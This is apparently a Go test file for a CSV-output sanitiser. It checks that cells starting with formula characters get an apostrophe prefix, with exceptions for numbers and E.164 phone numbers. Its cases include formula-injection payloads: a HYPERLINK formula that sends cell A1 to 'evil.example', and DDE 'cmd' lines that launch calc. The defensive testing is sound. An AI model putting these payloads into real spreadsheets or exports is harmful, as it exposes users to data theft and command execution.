package csvout

import (
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"
)

func TestNeutralize(t *testing.T) {
	for _, tc := range []struct {
		name string
		cell string
		kind Kind
		want string
	}{
		{"a hyperlink formula", `=HYPERLINK("https://evil.example/?d="&A1,"click")`, Text, `'=HYPERLINK("https://evil.example/?d="&A1,"click")`},
		{"a DDE command", `=cmd|' /C calc'!A0`, Text, `'=cmd|' /C calc'!A0`},
		{"Lotus @ function", "@SUM(1+1)*cmd|' /C calc'!A0", Text, "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"arithmetic", "-1+2", Text, "'-1+2"},
		{"plus", "+1+2", Text, "'+1+2"},
		{"tab first", "\t=1+2", Text, "'\t=1+2"},
		{"carriage return first", "\r=1+2", Text, "'\r=1+2"},
		{"plain text is kept", "Message failed to send", Text, "Message failed to send"},
		{"a formula character later is kept", "a=1+2", Text, "a=1+2"},
		{"empty", "", Text, ""},
		{"a leading space is text to a spreadsheet", " =1+2", Text, " =1+2"},
		{"an apostrophe already there is kept", "'=1+2", Text, "'=1+2"},
		{"a negative number in a Number column", "-12", Number, "-12"},
		{"a negative decimal in a Number column", "-0.0042", Number, "-0.0042"},
		{"a formula in a Number column", "-1+2", Number, "'-1+2"},
		{"a minus alone in a Number column", "-", Number, "'-"},
		{"a dangling point in a Number column", "-1.", Number, "'-1."},
		{"an exponent is not a number here", "-1e5", Number, "'-1e5"},
		{"E.164 in a Phone column", "+447911123456", Phone, "+447911123456"},
		{"E.164 in a Text column", "+447911123456", Text, "'+447911123456"},
		{"a plus alone in a Phone column", "+", Phone, "'+"},
		{"a formula after a plus in a Phone column", "+44+cmd|' /C calc'!A0", Phone, "'+44+cmd|' /C calc'!A0"},
		{"a formatted phone in a Phone column", "+44 7911 123456", Phone, "'+44 7911 123456"},
		{"a formula in a Phone column", "=1+2", Phone, "'=1+2"},
		{"a negative number in a Phone column", "-1", Phone, "'-1"},
		{"a number is not E.164", "-447911123456", Phone, "'-447911123456"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := Neutralize(tc.cell, tc.kind); got != tc.want {
				t.Errorf("Neutralize(%q, %v) = %q, want %q", tc.cell, tc.kind, got, tc.want)
			}
		})
	}
}

func TestWriter(t *testing.T) {
	cols := []Column{{"row", Number}, {"phone", Phone}, {"title", Text}}
	cells := []string{"-1", "+447911123456", `=HYPERLINK("x","y")`}
	for _, tc := range []struct {
		name string
		raw  bool
		want []string
	}{
		{"neutralised", false, []string{"-1", "+447911123456", `'=HYPERLINK("x","y")`}},
		{"raw writes cells exactly", true, cells},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b strings.Builder
			w := NewWriter(&b, cols, tc.raw)
			if err := w.WriteHeader(); err != nil {
				t.Fatal(err)
			}
			if err := w.Write(cells...); err != nil {
				t.Fatal(err)
			}
			if err := w.Flush(); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
			if err != nil {
				t.Fatalf("%v in\n%s", err, b.String())
			}
			if len(recs) != 2 || !slices.Equal(recs[0], []string{"row", "phone", "title"}) || !slices.Equal(recs[1], tc.want) {
				t.Errorf("wrote %q, want the header and %q", recs, tc.want)
			}
		})
	}
}

// FuzzNeutralize: a neutralised cell never starts with a formula
// character, unless it is a number in a Number column or E.164 in a
// Phone column (then it is the cell); and removing the apostrophe it may
// have been given is the cell.
func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{
		"", "text", "=1+1", "+", "+447911123456", "+44 7911", "-1", "-1.5", "-1+2", "-", "@SUM(A1)",
		"\t1", "\r1", "'=1", "=cmd|' /C calc'!A0", "1e5", "-.5", "+-1",
	} {
		for k := Text; k <= Phone; k++ {
			f.Add(s, uint8(k))
		}
	}
	f.Fuzz(func(t *testing.T, cell string, kind uint8) {
		k := Kind(kind % 3)
		out := Neutralize(cell, k)
		if out != cell && out != "'"+cell {
			t.Fatalf("Neutralize(%q, %v) = %q: neither the cell nor the cell after an apostrophe", cell, k, out)
		}
		if out == "" || !strings.ContainsRune("=+-@\t\r", rune(out[0])) {
			return
		}
		switch {
		case k == Number && number.MatchString(cell), k == Phone && e164.MatchString(cell):
		default:
			t.Fatalf("Neutralize(%q, %v) = %q starts with a formula character", cell, k, out)
		}
	})
}

var (
	number = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	e164   = regexp.MustCompile(`^\+[0-9]+$`)
)
